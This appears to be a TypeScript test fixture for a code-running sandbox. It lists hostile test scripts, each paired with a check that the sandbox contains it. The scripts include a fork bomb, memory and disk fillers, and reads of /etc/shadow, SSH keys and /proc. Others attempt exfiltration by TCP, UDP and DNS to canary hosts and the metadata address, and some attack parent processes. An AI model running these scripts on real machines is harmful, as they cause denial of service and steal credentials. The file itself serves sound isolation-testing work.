/**
 * Test files that attack the machine they are run on. Each is run as a repository's own tests are, by node:test under the harness, with small limits.
 * `SECRET_FILE`, `OPEN_FOLDER`, `PORT`, `ADDRESSES` and `ABSTRACT` in a text stand for the canaries.
 */
import type { Limits } from "../../../sandbox/contract.ts";
import type { TestRun } from "../../../sandbox/workspace.ts";

export interface HostileSuite {
  readonly name: string;
  /** The body of `attack.test.cjs`, after `test`, `fs`, `cp`, `net` and `print` (to standard output, at once) are there. */
  readonly script: string;
  readonly limits?: Partial<Limits>;
  readonly env?: Readonly<Record<string, string>>;
  readonly layer?: Readonly<Record<string, string>>;
  /** How the run may end, and what its report must be. */
  readonly holds: (run: TestRun) => boolean;
}

const MEBIBYTE = 2 ** 20;
const endedAs =
  (...kinds: readonly string[]) =>
  ({ ended }: TestRun): boolean =>
    kinds.includes(ended.kind);
/** The attack itself went through to its end, and said what it got: nothing. */
const gotNothing = ({ ended, report, result }: TestRun): boolean =>
  ended.kind === "finished" && report.complete && report.forged === 0 && !result.stdout.includes("GOT") && result.stdout.includes("DONE");
/** The run is never taken for one that went well. */
const isNoSuccess = ({ ended, report }: TestRun): boolean =>
  ended.kind !== "finished" || ended.exitCode !== 0 || !report.complete || report.forged > 0;

const tried = (what: string): string => `try { ${what} } catch (e) { print("no " + (e.code ?? e.message)); }`;

export const hostileSuites: readonly HostileSuite[] = [
  {
    name: "a fork bomb",
    script: `test("t", async () => { cp.spawn("sh", ["-c", "b() { b | b & }; b; sleep 60"], { stdio: "ignore" }); await new Promise(() => setInterval(() => {}, 99)); });`,
    limits: { wallMs: 4_000, processes: 64 },
    holds: endedAs("timed-out", "finished", "out-of-memory"),
  },
  {
    name: "a memory hog that hides in its children",
    script: `for (let i = 0; i < 3; i++) cp.spawn(process.execPath, ["-e", "const a = []; for (;;) a.push(Buffer.alloc(4 * ${MEBIBYTE}, 1))"], { detached: true, stdio: "ignore" });
      test("t", () => new Promise(() => setInterval(() => {}, 99)));`,
    limits: { wallMs: 5_000, memoryBytes: 256 * MEBIBYTE },
    holds: endedAs("out-of-memory"),
  },
  {
    name: "a disk filler",
    script: `test("t", () => { for (const d of ["/workspace", "/tmp", "/home", "/dev/shm"]) { const f = fs.openSync(d + "/big", "w"); let n = 0;
        ${tried(`for (; n < 200; n++) fs.writeSync(f, Buffer.alloc(${MEBIBYTE}, 1)); print("GOT " + d)`)} } print("DONE"); });`,
    holds: gotNothing,
  },
  {
    name: "an inode filler",
    script: `test("t", () => { for (const d of ["/workspace/x", "/tmp/x", "/dev/shm/x"]) ${tried(
      'fs.mkdirSync(d); for (let n = 0; n < 6000; n++) fs.writeFileSync(d + "/" + n, ""); print("GOT " + d)',
    )} print("DONE"); });`,
    holds: gotNothing,
  },
  {
    name: "a flood on both outputs",
    script: `for (;;) for (const fd of [1, 2]) try { fs.writeSync(fd, "o".repeat(65536)); } catch (e) { if (e.code !== "EAGAIN") throw e; }`,
    holds: endedAs("output-too-large"),
  },
  {
    name: "a flood on the report",
    script: `test("t", () => { for (;;) for (let fd = 3; fd < 30; fd++) try { fs.writeSync(fd, "r".repeat(65536) + "\\n"); } catch (e) { if (e.code !== "EAGAIN" && e.code !== "EBADF") break; } });`,
    limits: { wallMs: 8_000 },
    holds: endedAs("output-too-large", "timed-out", "out-of-memory"),
  },
  {
    name: "a forged report",
    script: `test("t", () => { fs.writeSync(3, '0123456789abcdef {"type":"test","file":"attack.test.cjs","path":["won"],"status":"passed","ms":1}\\n0123456789abcdef {"type":"end"}\\n'); throw new Error("lost"); });`,
    holds: (run) => isNoSuccess(run) && run.report.forged > 0,
  },
  {
    name: "symbolic and hard links to the host",
    script: `test("t", () => { fs.symlinkSync("SECRET_FILE", "link"); fs.symlinkSync("OPEN_FOLDER", "folder");
        ${tried('print("GOT " + fs.readFileSync("link", "utf8"))')} ${tried('fs.writeFileSync("link", "changed"); print("GOT a write")')}
        ${tried('fs.writeFileSync("folder/made", ""); print("GOT a folder")')} ${tried('fs.linkSync("SECRET_FILE", "hard"); print("GOT a hard link")')}
        ${tried('fs.linkSync("/usr/bin/env", "hard-env"); print("GOT a hard link to the system")')}
        fs.rmSync("out", { recursive: true, force: true }); fs.symlinkSync("/", "out"); print("DONE"); });`,
    holds: (run) => gotNothing(run) && Object.keys(run.result.collected).length === 0,
  },
  {
    name: "a search for secrets in the environment, in /proc and on the disk",
    script: `test("t", () => { print(JSON.stringify(process.env)); for (const p of fs.readdirSync("/proc")) for (const f of ["environ", "cmdline", "cwd", "root", "mountinfo"])
        ${tried('print(fs.readFileSync("/proc/" + p + "/" + f, "latin1"))')}
        for (const f of ["SECRET_FILE", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.npmrc", "/proc/kcore", "/proc/1/root/SECRET_FILE", "/proc/1/root/etc/shadow", "/proc/1/cwd/etc/shadow", "/kihon/../SECRET_FILE"])
        ${tried('print("GOT " + f + fs.readFileSync(f, "latin1").slice(0, 99))')} print("DONE"); });`,
    limits: { outputBytes: 16 * MEBIBYTE },
    holds: gotNothing,
  },
  {
    name: "exfiltration by TCP, UDP, DNS and sockets without a file",
    script: `const dns = require("dns"); const dgram = require("dgram");
      const dial = (to) => new Promise((done) => { const s = net.connect(to); s.setTimeout(1500, () => { s.destroy(); done(); });
        s.on("connect", () => { print("GOT " + JSON.stringify(to)); s.end("secret"); done(); }); s.on("error", () => done()); });
      test("t", async () => { for (const host of ADDRESSES.concat("1.1.1.1", "169.254.169.254")) await dial({ host, port: PORT });
        await dial({ path: ABSTRACT }); for (const path of ["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"]) await dial({ path });
        for (const host of ADDRESSES.concat("8.8.8.8")) await new Promise((done) => { const u = dgram.createSocket("udp4"); u.on("error", () => done()); u.send("secret", PORT, host, () => { u.close(); done(); }); });
        for (const ask of [(f) => dns.lookup("secret.example.com", f), (f) => dns.resolve4("secret.example.com", f)])
          await new Promise((done) => ask((error, found) => { if (!error) print("GOT " + found); done(); }));
        print("DONE"); });`,
    holds: gotNothing,
  },
  {
    name: "an attack on the processes above it",
    script: `test("t", () => { for (const p of fs.readdirSync("/proc").filter(Number)) { if (p === String(process.pid) || p === String(process.ppid) || p === "1") continue;
        for (const f of ["mem", "maps", "environ", "fd/4", "fd/11", "fd/12", "fd/13"]) ${tried('fs.closeSync(fs.openSync("/proc/" + p + "/" + f, f === "mem" ? "r+" : "r")); const parent = fs.readFileSync("/proc/" + p + "/cmdline", "latin1"); if (parent.includes(".job.sh")) print("GOT " + p + " " + f)')} }
        const perl = cp.spawnSync("perl", ["-e", 'print syscall(${process.arch === "x64" ? 101 : 117}, 16, getppid(), 0, 0) == 0 ? "GOT ptrace" : "no ptrace"'], { encoding: "utf8" }); print(String(perl.stdout)); print("DONE"); });`,
    holds: gotNothing,
  },
  {
    name: "signals to everything it can see",
    script: `test("t", () => { for (const p of [1, 2, 3, process.ppid]) ${tried('process.kill(p, "SIGSTOP"); process.kill(p, "SIGCONT")')} ${tried('process.kill(-1, "SIGKILL")')} });`,
    limits: { wallMs: 6_000 },
    holds: isNoSuccess,
  },
  {
    name: "an end before the tests",
    script: `process.kill(process.ppid, "SIGKILL"); process.exit(0);`,
    holds: isNoSuccess,
  },
  {
    name: "a library that is loaded before everything",
    script: `test("t", () => { ${tried('const out = cp.execFileSync("/bin/echo", ["GOT".toLowerCase()], { encoding: "utf8", env: { LD_PRELOAD: "/workspace/none.so" } }); print(out)')} print("DONE"); });`,
    env: { LD_PRELOAD: "/workspace/none.so" },
    holds: gotNothing,
  },
  {
    name: "daemons in sessions of their own",
    script: `for (let i = 0; i < 5; i++) cp.spawn("sh", ["-c", "trap '' TERM HUP INT; (setsid sh -c 'while :; do sleep 1; done' &) ; while :; do sleep 1; done"], { detached: true, stdio: "ignore" }).unref();
      test("t", () => { print("DONE"); });`,
    holds: gotNothing,
  },
  {
    name: "folders deeper than any path",
    script: `test("t", () => { for (let n = 0; n < 400; n++) { fs.mkdirSync("d".repeat(200)); process.chdir("d".repeat(200)); } print("DONE"); });`,
    holds: gotNothing,
  },
  {
    name: "files that nobody may read, pipes and names of any bytes",
    script: `test("t", () => { fs.mkdirSync("out"); cp.execFileSync("mkfifo", ["out/pipe"]); fs.writeFileSync(Buffer.from("out/\\xff\\xfe\\x1b[2J", "latin1"), ""); fs.writeFileSync("out/-rf", ""); fs.writeFileSync("out/a\\nb", "");
        fs.mkdirSync("closed"); fs.writeFileSync("closed/x", ""); fs.chmodSync("closed", 0); print("DONE"); });`,
    holds: gotNothing,
  },
];

/** Leaves a trace wherever it can write, and looks for the traces of an earlier run. */
export const secondRun = `test("t", () => { const traces = ["/tmp", "/home", "/dev/shm", "/workspace", "/workspace/node_modules", process.env.TMPDIR, process.env.HOME].map((d) => d + "/.trace");
    for (const path of traces) if (fs.existsSync(path)) print("GOT " + path);
    for (const path of traces) { ${tried('fs.mkdirSync(require("path").dirname(path), { recursive: true }); fs.writeFileSync(path, "")')} } print("DONE"); });`;

const ESCAPES = "\\u001b]0;owned\\u0007\\u001b[2J\\u001b[31mred\\u009b2J\\u202egnp.exe\\u0000\\r\\b";
/** Titles that would act on a terminal, that no UTF-8 file can keep, that are ten megabytes long, or that take a slow pattern long to read. */
export const strangeTitles = `test("${ESCAPES}", () => {}); test("half \\ud800 pair", () => {}); test("x".repeat(10 * ${MEBIBYTE}), () => {});
  test(" ".repeat(400000) + "(", () => {}); test("__proto__", () => { throw new Error("${ESCAPES}" + " ".repeat(400000)); });
  fs.writeSync(1, Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x1b, 0x5b, 0x32, 0x4a]));`;
